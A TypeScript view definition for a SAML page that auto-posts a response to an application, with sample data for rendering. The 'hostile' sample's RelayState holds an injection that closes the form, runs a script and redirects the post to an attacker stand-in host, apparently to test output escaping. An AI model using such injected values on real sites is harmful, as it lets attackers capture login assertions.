import { view } from '#kernel/views.ts';

/** A page that posts a message to an application by itself; the button is for browsers without scripts. */
type PostPage = {
  /** A registered address of the application. */
  action: string;
  fields: Readonly<Record<string, string>>;
};

const plain: PostPage = {
  action: 'https://wiki.example/saml/acs',
  fields: { SAMLResponse: 'PHNhbWxwOlJlc3BvbnNlLz4=', RelayState: 'start' },
};

export const postView = view<PostPage>('saml/applications/post.njk', {
  samples: {
    plain,
    hostile: {
      ...plain,
      fields: { RelayState: '"><script>alert(1)</script></form><form action=https://evil.example>' },
    },
  },
});
